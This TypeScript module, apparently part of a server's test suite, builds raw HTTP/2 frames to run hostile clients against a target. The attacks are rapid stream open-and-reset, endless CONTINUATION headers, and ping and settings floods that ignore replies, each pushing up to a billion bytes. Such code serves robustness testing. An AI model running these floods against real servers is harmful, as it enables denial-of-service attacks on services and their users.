/**
 * Clients of HTTP/2 that mean no good, frame by frame.
 *
 * @module
 */

import type { Battlefield } from "./attacks.ts";
import { Raw } from "./raw.ts";

/** Opens streams of HTTP/2 and resets them, as fast as it can. */
export function resetStreams(field: Battlefield): Promise<string> {
  return pour2(field, (turn) => {
    const stream = 2 * turn + 1;
    const flags = END_HEADERS | END_STREAM;
    const cancel = Uint8Array.of(0, 0, 0, 8);
    return [
      frame2(FRAME.headers, flags, stream, head2("/text")),
      frame2(FRAME.resetStream, 0, stream, cancel),
    ];
  });
}

/** Begins a head of HTTP/2, and goes on with it for ever. */
export function continueHead(field: Battlefield): Promise<string> {
  const padding = new Uint8Array(16_000).fill(0x82);
  return pour2(field, (turn) => [
    turn === 0
      ? frame2(FRAME.headers, END_STREAM, 1, head2("/text"))
      : frame2(FRAME.continuation, 0, 1, padding),
  ]);
}

/** Pings, and reads no answer. */
export function ping(field: Battlefield): Promise<string> {
  return pour2(
    field,
    () => [frame2(FRAME.ping, 0, 0, new Uint8Array(8))],
    false,
  );
}

/** Settings to be acknowledged, and reads no acknowledgement. */
export function set(field: Battlefield): Promise<string> {
  return pour2(field, () => [frame2(FRAME.settings, 0, 0)], false);
}

/** Bytes that are sent to a server that should have stopped it long before. */
const ENDLESS_BYTES = 1_000_000_000;

const FRAMES_PER_PIECE = 100;

async function pour2(
  { http }: Battlefield,
  next: (turn: number) => Uint8Array[],
  reads = true,
): Promise<string> {
  using raw = await Raw.to(http);
  await raw.send(begin2());
  const came = reads ? raw.readAll() : undefined;
  let sentBytes = 0;
  for (let turn = 0; sentBytes < ENDLESS_BYTES; turn += FRAMES_PER_PIECE) {
    const turns = Array.from(
      { length: FRAMES_PER_PIECE },
      (_, at) => turn + at,
    );
    const piece = await new Blob(turns.flatMap(next) as BlobPart[]).bytes();
    sentBytes += piece.length;
    if (!await raw.send(piece)) {
      await came;
      return "cut";
    }
  }
  return "taken";
}

/** Types of frames, RFC 9113, section 6. */
const FRAME = {
  headers: 1,
  resetStream: 3,
  settings: 4,
  ping: 6,
  continuation: 9,
} as const;

/** Flags of `HEADERS`. */
const END_STREAM = 1;

/** The other one. */
const END_HEADERS = 4;

/** A frame of HTTP/2. */
function frame2(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array = new Uint8Array(),
): Uint8Array {
  const frame = new Uint8Array(9 + payload.length);
  const view = new DataView(frame.buffer);
  view.setUint32(0, payload.length << 8 | type);
  frame[4] = flags;
  view.setUint32(5, stream);
  frame.set(payload, 9);
  return frame;
}

/** What a client sends first: the preface, and settings that change nothing. */
function begin2(): Uint8Array {
  const preface = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
  return Uint8Array.of(...preface, ...frame2(FRAME.settings, 0, 0));
}

/** The head of a GET of `path`, without Huffman's code: RFC 7541, section 6. */
function head2(path: string): Uint8Array {
  const literal = (index: number, text: string) => [
    ...[index, text.length],
    ...new TextEncoder().encode(text),
  ];
  // Indexed: method GET, scheme http; literal: path, authority.
  return Uint8Array.of(0x82, 0x86, ...literal(4, path), ...literal(1, "a"));
}
